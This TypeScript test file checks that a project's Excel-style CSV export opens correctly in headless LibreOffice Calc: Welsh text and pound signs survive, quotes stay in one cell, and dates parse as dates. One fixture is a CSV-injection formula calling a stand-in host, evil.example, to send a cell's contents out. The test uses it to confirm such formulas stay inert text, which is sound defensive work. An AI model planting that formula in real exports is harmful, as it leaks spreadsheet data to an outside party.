// The --excel CSV opened by a real LibreOffice Calc (Debian's libreoffice-calc,
// headless), the way a journalist without Excel opens it. Calc converts the CSV
// to flat ODS, whose cells say their type (date, float, string) and whether they
// hold a formula. Skips only on a developer machine without soffice; in CI
// (process.env.CI set) a missing soffice fails.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import * as cheerio from 'cheerio';
import { exportRows } from '../../pipeline/export/export.ts';
import { LIBREOFFICE_CSV_FILTER } from '../../pipeline/export/csv.ts';
import { createTestDb, type TestDb } from './test-db.ts';
import { COUNTED_EVENT_IDS, insertDocument, insertEvent, insertQuote, seedRollouts } from './fixture.ts';

const SOFFICE = '/usr/bin/soffice';
const available = existsSync(SOFFICE);
if (!available && !process.env.CI) {
  console.warn(`skipping the LibreOffice test: ${SOFFICE} not found (apt-get install -y --no-install-recommends libreoffice-calc); CI runs it`);
}

interface Cell {
  type: string;
  text: string;
  date: string | undefined;
  formula: string | undefined;
}

/** Runs soffice in its own process group, so the whole group can be killed if it hangs. */
function convertToFods(csv: string, outDir: string, profile: string): Promise<void> {
  const args = [
    '--headless', '--norestore', `-env:UserInstallation=${pathToFileURL(profile).href}`,
    `--infilter=${LIBREOFFICE_CSV_FILTER}`, '--convert-to', 'fods', '--outdir', outDir, csv,
  ];
  return new Promise((resolve, reject) => {
    const child = spawn(SOFFICE, args, { detached: true, stdio: 'ignore' });
    const timer = setTimeout(() => {
      process.kill(-child.pid!, 'SIGKILL');
      reject(new Error('soffice did not finish in 60 s'));
    }, 60_000);
    child.on('error', reject);
    child.on('exit', (code) => {
      clearTimeout(timer);
      try {
        process.kill(-child.pid!, 'SIGKILL'); // soffice.bin outliving its wrapper script
      } catch {
        // the group has already gone
      }
      if (code === 0) resolve();
      else reject(new Error(`soffice exited ${code}`));
    });
  });
}

/** Rows of cells from a flat ODS sheet; repeated empty cells expanded, paragraphs joined by newlines. */
function fodsRows(xml: string): Cell[][] {
  const $ = cheerio.load(xml, { xml: true });
  return $('table\\:table-row').toArray().map((row) => {
    const cells: Cell[] = [];
    $(row).children('table\\:table-cell').each((_, el) => {
      const cell = $(el);
      const repeat = Math.min(Number(cell.attr('table:number-columns-repeated') ?? 1), 64);
      cell.find('text\\:s').each((_, s) => void $(s).replaceWith(' '.repeat(Number($(s).attr('text:c') ?? 1))));
      cell.find('text\\:tab').replaceWith('\t');
      const text = cell.children('text\\:p').toArray().map((p) => $(p).text()).join('\n');
      const value = { type: cell.attr('office:value-type') ?? 'empty', text, date: cell.attr('office:date-value'), formula: cell.attr('table:formula') };
      for (let i = 0; i < repeat; i++) cells.push(value);
    });
    return cells;
  });
}

const PLACE = 'Ysbyty Gwynedd – £2m';
const SAID = 'She said: "It opens on Monday, at 8am, and we are ready," then left.';
const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"details")';

async function seedNonAscii(t: TestDb): Promise<void> {
  await insertDocument(t.db, {
    doc_id: 'd-wales',
    url: 'https://www.example-health-news.org/2014/07/ysbyty-gwynedd',
    source_id: 'health-news',
    title: `${PLACE} front door for urgent care`,
    published_at: '2014-07-04',
    paragraphs: [`The urgent care front door at ${PLACE} went live this week.`, SAID],
  });
  await insertEvent(t.db, {
    event_id: 'w1', doc_id: 'd-wales', service: 'NHS 111', region: PLACE, provider: FORMULA, status: 'live',
    evidence: `The urgent care front door at ${PLACE} went live this week.`,
  });
  await insertEvent(t.db, { event_id: 'w2', doc_id: 'd-wales', service: 'NHS 111', region: 'Gwynedd', status: 'planned', target: '2015', evidence: SAID });
  await insertQuote(t.db, { doc_id: 'd-wales', text: '"It opens on Monday, at 8am, and we are ready,"', speaker: 'a ward manager' });
}

describe.skipIf(!available && !process.env.CI)('the --excel CSV in LibreOffice Calc', () => {
  let t: TestDb;
  let rows: Cell[][];
  let header: string[];
  let profile: string;
  const col = (r: Cell[], name: string) => r[header.indexOf(name)]!;

  beforeAll(async () => {
    t = await createTestDb();
    await seedRollouts(t.db);
    await seedNonAscii(t);
    const csv = join(t.dir, 'facts.csv');
    await exportRows(t.db, {}, { format: 'csv', excel: true, output: csv });
    profile = mkdtempSync(join(tmpdir(), 'rollwatch-soffice-'));
    await convertToFods(csv, t.dir, profile);
    rows = fodsRows(readFileSync(join(t.dir, 'facts.fods'), 'utf8')).filter((r) => r.some((c) => c.type !== 'empty'));
    header = rows[0]!.map((c) => c.text);
  }, 90_000);

  afterAll(() => {
    t?.cleanup();
    if (profile) rmSync(profile, { recursive: true, force: true });
  });

  it('reads the header without a stray byte-order mark and one row per fact', () => {
    expect(header[0]).toBe('date');
    expect(header).toContain('target_start');
    expect(rows.length - 1).toBe(COUNTED_EVENT_IDS.length + 2);
  });

  it('shows Welsh place names, en dashes and pound signs as written, not as mojibake', () => {
    const wales = rows.find((r) => col(r, 'region').text === PLACE);
    expect(wales).toBeDefined();
    expect(col(wales!, 'title').text).toBe(`${PLACE} front door for urgent care`);
    expect(rows.flat().some((c) => /Ã|â€/.test(c.text))).toBe(false);
  });

  it('keeps a quotation holding commas and double quotes in one cell', () => {
    const planned = rows.find((r) => col(r, 'region').text === 'Gwynedd')!;
    expect(col(planned, 'evidence').text).toBe(SAID);
    expect(col(planned, 'quote').text).toBe('"It opens on Monday, at 8am, and we are ready,"');
    expect(col(planned, 'speaker').text).toBe('a ward manager');
  });

  it('never runs a cell as a formula: a leading = stays visible text', () => {
    const wales = rows.find((r) => col(r, 'region').text === PLACE)!;
    expect(col(wales, 'provider').type).toBe('string');
    expect(col(wales, 'provider').text).toBe(`'${FORMULA}`);
    expect(rows.flat().filter((c) => c.formula !== undefined)).toEqual([]);
  });

  it('reads the publication, effective and target days as dates, so they sort as dates', () => {
    for (const r of rows.slice(1)) {
      for (const name of ['date', 'effective_start', 'effective_end']) {
        expect(col(r, name).type, `${name} of ${col(r, 'region').text}`).toBe('date');
      }
    }
    const planned = rows.find((r) => col(r, 'region').text === 'Gwynedd')!;
    expect([col(planned, 'target_start').date, col(planned, 'target_end').date]).toEqual(['2015-01-01', '2015-12-31']);
  });
});
